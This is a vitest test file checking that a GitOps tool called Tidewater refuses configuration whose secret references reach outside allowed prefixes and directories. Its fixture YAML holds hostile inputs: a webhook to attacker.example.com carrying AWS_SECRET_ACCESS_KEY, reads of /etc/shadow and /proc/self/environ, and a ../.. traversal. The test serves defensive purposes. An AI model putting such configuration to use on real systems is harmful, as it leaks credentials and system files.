// Door: secret references are scoped. An `env:` reference may name only a variable with the service's secret
// prefix (TIDEWATER_SECRET_ by default, TIDEWATER_SECRET_ENV_PREFIX per service) and a `file:` reference only a
// file under the secret directories (TIDEWATER_SECRET_DIRS). A configuration that reaches for anything else —
// the Redis password, cloud keys, /etc/shadow, ../.. — is refused at load, naming file, document and field.
import { execFile } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigLoadError, loadConfigDir, secretScopeFromEnv, type ConfigError } from '@tidewater/config';
import { makeWorkDir, repoRoot } from '../harness/src/index.ts';

const run = promisify(execFile);
const leakedValues = { REDIS_PASSWORD: 'redis-pw-must-not-leak', AWS_SECRET_ACCESS_KEY: 'aws-key-must-not-leak' };

const hostileConfig = `apiVersion: tidewater.dev/v1alpha1
kind: Repository
metadata: {name: apps}
spec:
  url: https://github.com/acme/apps.git
  webhookSecretRef: [{env: TIDEWATER_SECRET_GH_WEBHOOK}, {env: REDIS_PASSWORD}]
  credentialRef: {file: /var/run/secrets/tidewater/../../../../etc/shadow}
---
apiVersion: tidewater.dev/v1alpha1
kind: Cluster
metadata: {name: prod}
spec:
  server: https://prod.example.com:6443
  kubeconfigRef: {file: /etc/shadow}
---
apiVersion: tidewater.dev/v1alpha1
kind: NotificationChannel
metadata: {name: exfiltrate}
spec:
  type: webhook
  url: https://attacker.example.com/collect
  headers:
    - {name: Authorization, valueRef: {env: AWS_SECRET_ACCESS_KEY}}
    - {name: X-Token, valueRef: {file: ../../x}}
---
apiVersion: tidewater.dev/v1alpha1
kind: AuditSink
metadata: {name: siem}
spec:
  type: http
  urlRef: {file: /proc/self/environ}
`;

describe('secret references outside the scope', () => {
  let work: ReturnType<typeof makeWorkDir>;
  let configDir: string;
  beforeAll(() => {
    work = makeWorkDir('secrets-scope');
    configDir = join(work.dir, 'config');
    mkdirSync(join(configDir, 'platform'), { recursive: true });
    writeFileSync(join(configDir, 'platform', 'hostile.yaml'), hostileConfig);
  });
  afterAll(() => work?.remove());

  it('are refused at load, each error naming file, document and field, and never a value', async () => {
    const error = await loadConfigDir(configDir, { secretScope: secretScopeFromEnv({}) }).then(() => undefined, (thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(ConfigLoadError);
    const found = (error as ConfigLoadError).errors.map((entry: ConfigError) =>
      [entry.file, entry.documentIndex, entry.documentName, entry.field, entry.detail.replace(/:.*/, '')]);
    expect(found).toEqual([
      ['platform/hostile.yaml', 0, 'apps', 'spec.webhookSecretRef[1]', 'env REDIS_PASSWORD is outside the secret scope'],
      ['platform/hostile.yaml', 0, 'apps', 'spec.credentialRef', 'file /var/run/secrets/tidewater/../../../../etc/shadow must not contain .. segments'],
      ['platform/hostile.yaml', 1, 'prod', 'spec.kubeconfigRef', 'file /etc/shadow is outside the secret scope'],
      ['platform/hostile.yaml', 2, 'exfiltrate', 'spec.headers[0].valueRef', 'env AWS_SECRET_ACCESS_KEY is outside the secret scope'],
      ['platform/hostile.yaml', 2, 'exfiltrate', 'spec.headers[1].valueRef', 'file ../../x must be an absolute path under /var/run/secrets/tidewater or /run/secrets/tidewater (TIDEWATER_SECRET_DIRS)'],
      ['platform/hostile.yaml', 3, 'siem', 'spec.urlRef', 'file /proc/self/environ is outside the secret scope'],
    ]);
    expect((error as Error).message).toContain('platform/hostile.yaml: document 0 (apps): spec.webhookSecretRef[1]: env REDIS_PASSWORD is outside the secret scope');
    for (const value of Object.values(leakedValues)) expect((error as Error).message).not.toContain(value);
  });

  it('follow each service\'s own prefix and directories', async () => {
    const scoped = join(work.dir, 'scoped');
    mkdirSync(scoped);
    writeFileSync(join(scoped, 'channel.yaml'), `apiVersion: tidewater.dev/v1alpha1
kind: NotificationChannel
metadata: {name: team}
spec:
  type: slack
  tokenRef: {env: NOTIFIER_SECRET_SLACK}
---
apiVersion: tidewater.dev/v1alpha1
kind: NotificationChannel
metadata: {name: other}
spec:
  type: slack
  webhookUrlRef: {file: /etc/notifier/secrets/hook}
`);
    const notifierScope = secretScopeFromEnv({ TIDEWATER_SECRET_ENV_PREFIX: 'NOTIFIER_SECRET_', TIDEWATER_SECRET_DIRS: '/etc/notifier/secrets' });
    await expect(loadConfigDir(scoped, { secretScope: notifierScope })).resolves.toMatchObject({ otherDocuments: expect.any(Array) });
    const defaultScopeError = await loadConfigDir(scoped, { secretScope: secretScopeFromEnv({}) }).then(() => undefined, (thrown: unknown) => thrown as ConfigLoadError);
    expect(defaultScopeError?.errors.map((entry) => entry.field)).toEqual(['spec.tokenRef', 'spec.webhookUrlRef']);
  });

  it('stop a real service at start-up: the gateway exits, naming the field, with the leaked values nowhere in its output', async () => {
    const gateway = join(repoRoot, 'services/gateway/src/main.ts');
    const result = await run(process.execPath, [gateway], {
      cwd: repoRoot, timeout: 60_000,
      env: { PATH: process.env.PATH, HOME: process.env.HOME, TIDEWATER_CONFIG: configDir, REDIS_URL: 'redis://127.0.0.1:1', ...leakedValues },
    }).then(() => ({ code: 0, output: '' }), (failure: { code?: number; stdout?: string; stderr?: string }) =>
      ({ code: failure.code ?? -1, output: `${failure.stdout ?? ''}${failure.stderr ?? ''}` }));
    expect(result.code).not.toBe(0);
    expect(result.output).toContain('ConfigLoadError');
    expect(result.output).toContain('platform/hostile.yaml: document 1 (prod): spec.kubeconfigRef: file /etc/shadow is outside the secret scope');
    for (const value of Object.values(leakedValues)) expect(result.output).not.toContain(value);
  });

  it('leave the example GitOps repository and the demo configuration loadable with the defaults', async () => {
    const config = await loadConfigDir(join(repoRoot, 'examples/gitops-repo/tidewater'), { secretScope: secretScopeFromEnv({}) });
    expect(config.applications.length).toBeGreaterThan(0);
  });
});
